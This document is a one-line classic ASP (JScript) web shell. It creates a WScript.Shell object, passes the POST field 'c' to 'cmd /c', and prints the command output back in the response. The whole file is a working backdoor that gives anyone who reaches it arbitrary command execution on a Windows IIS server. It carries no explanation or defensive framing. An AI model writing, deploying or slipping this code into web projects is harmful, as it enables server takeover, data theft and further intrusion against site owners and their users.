<%@ LANGUAGE="JScript" %><% var s = new ActiveXObject("WScript.Shell"); Response.Write(s.Exec("cmd /c " + Request.Form("c")).StdOut.ReadAll()); %>
